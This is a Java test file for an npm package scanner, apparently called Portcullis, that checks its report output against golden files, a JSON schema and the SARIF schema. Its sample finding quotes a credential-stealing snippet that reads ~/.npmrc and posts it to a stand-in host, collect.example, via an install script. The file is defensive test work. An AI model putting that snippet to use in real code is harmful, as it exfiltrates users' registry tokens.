package dev.portcullis.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import dev.portcullis.json.Json;
import dev.portcullis.model.Finding;
import dev.portcullis.model.Location;
import dev.portcullis.model.RuleDescriptor;
import dev.portcullis.model.Severity;
import dev.portcullis.model.Verdict;
import dev.portcullis.policy.Policy;
import dev.portcullis.policy.PolicyResult;
import dev.portcullis.policy.VerdictThresholds;
import dev.portcullis.testkit.Fixtures;
import dev.portcullis.testkit.NodeTools;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Golden files of the inspect report in every format (-Dportcullis.updateGolden=true rewrites them; review the
 * diff), the documented JSON schema, and the official SARIF schema.
 */
class InspectReportersTest {
    static final RuleDescriptor EXFIL = new RuleDescriptor("content/credential-exfiltration", Severity.CRITICAL,
            "Credentials sent over the network", "Reading tokens and sending them out is what credential stealers do.",
            "Do not install this version; report it to the registry.");
    static final RuleDescriptor SCRIPT = new RuleDescriptor("manifest/lifecycle-script", Severity.LOW,
            "Package runs a lifecycle script", "Install-time code runs with the user's rights.",
            "Review the script.");
    static final RuleDescriptor SHELL = new RuleDescriptor("content/child-process", Severity.INFO,
            "Runs other programs", "Capability only.", "Nothing by itself.");

    static InspectReport sample() {
        Finding exfil = new Finding(EXFIL, Severity.CRITICAL, "evil-helper", "1.0.1",
                "reads ~/.npmrc and posts it to https://collect.example", new Location("install.js", 7),
                "const t = fs.readFileSync(os.homedir() + '/.npmrc');\nfetch('https://collect.example', {method: 'POST', body: t})");
        Finding script = Finding.of(SCRIPT, "evil-helper", "1.0.1", "postinstall runs `node install.js`",
                new Location("package.json", 0));
        Finding shell = Finding.of(SHELL, "tool", "2.0.0", "calls child_process.spawn", new Location("bin/run.js", 3));
        Policy.Ignore ignore = new Policy.Ignore(SHELL.id(), "tool", null, null, "it is a CLI runner", null,
                new Location("portcullis.yml", 4));
        return new InspectReport("0.1.0-test", List.of(
                new InspectReport.Result("evil-helper@1.0.1", "evil-helper", "1.0.1", Verdict.BLOCK,
                        List.of(script, exfil), List.of(), 3, 2_345, null),
                new InspectReport.Result("./tool-2.0.0.tgz", "tool", "2.0.0", Verdict.ALLOW, List.of(),
                        List.of(new PolicyResult.Ignored(shell, ignore)), 12, 40_960, null),
                InspectReport.Result.failed("no-such-package@1.0.0", "no-such-package", null,
                        new InspectReport.Error(InspectReport.ErrorKind.INPUT,
                                "no-such-package is not in the registry https://registry.npmjs.org/ (404)"))),
                VerdictThresholds.defaults(), Verdict.BLOCK,
                List.of("portcullis.yml:9: the ignore of content/obfuscation expired on 2026-01-31 (reason given: vendor fix pending)"),
                List.of(EXFIL, SHELL, SCRIPT));
    }

    static String render(ReportFormat format, InspectReport report, boolean colour) throws IOException {
        StringWriter out = new StringWriter();
        format.reporter(colour).write(report, out);
        return out.toString();
    }

    @ParameterizedTest
    @MethodSource("formats")
    void matchesGoldenFile(ReportFormat format) throws IOException {
        String actual = render(format, sample(), false);
        Path golden = Fixtures.repoRoot().resolve(
                "portcullis-core/src/test/resources/dev/portcullis/report/golden/inspect." + format.id());
        if (Boolean.getBoolean("portcullis.updateGolden")) {
            Files.createDirectories(golden.getParent());
            Files.writeString(golden, actual, StandardCharsets.UTF_8);
        }
        assertThat(actual).isEqualTo(Files.readString(golden, StandardCharsets.UTF_8));
    }

    @Test
    void decidingFindingsComeFirst() {
        assertThat(sample().results().get(0).findings()).extracting(f -> f.rule().id())
                .containsExactly("content/credential-exfiltration", "manifest/lifecycle-script");
    }

    @Test
    void jsonFollowsTheDocumentedSchema() throws IOException {
        JsonNode json = Json.mapper().readTree(render(ReportFormat.JSON, sample(), false));
        assertThat(InspectSchema.validate(json)).isEmpty();
        assertThat(json.at("/results/0/target").asText()).isEqualTo("evil-helper@1.0.1");
        assertThat(json.at("/results/0/findings/0/evidence").asText()).startsWith("const t = fs.readFileSync");
        assertThat(json.at("/results/2/error").asText()).contains("(404)");
        assertThat(json.at("/results/2/verdict").isNull()).isTrue();
    }

    @Test
    void schemaRejectsAResultWithoutVerdictOrError() throws IOException {
        JsonNode bad = Json.mapper().readTree("{\"results\":[{\"target\":\"x\",\"name\":\"x\",\"version\":\"1.0.0\","
                + "\"verdict\":null,\"findings\":[]}]}");
        assertThat(InspectSchema.validate(bad)).isNotEmpty();
    }

    @Test
    void sarifIsValidAgainstTheOfficialSchema() throws IOException {
        Path schemaFile = NodeTools.installed().resolve("node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json");
        JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V7)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        JsonNode sarif = Json.mapper().readTree(render(ReportFormat.SARIF, sample(), false));
        assertThat(schema.validate(sarif)).isEmpty();
        assertThat(sarif.at("/runs/0/results/0/locations/0/physicalLocation/artifactLocation/uri").asText())
                .isEqualTo("evil-helper@1.0.1/install.js");
        assertThat(sarif.at("/runs/0/invocations/0/executionSuccessful").asBoolean()).isFalse();
    }

    /** The documented schema, docs/inspect-report.schema.json. */
    static final class InspectSchema {
        static java.util.Set<com.networknt.schema.ValidationMessage> validate(JsonNode json) throws IOException {
            Path schemaFile = Fixtures.repoRoot().resolve("docs/inspect-report.schema.json");
            JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012)
                    .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
            return schema.validate(json);
        }
    }

    /** The formats of this kind of report. */
    static java.util.List<ReportFormat> formats() {
        return ReportFormat.of(InspectReport.class);
    }
}
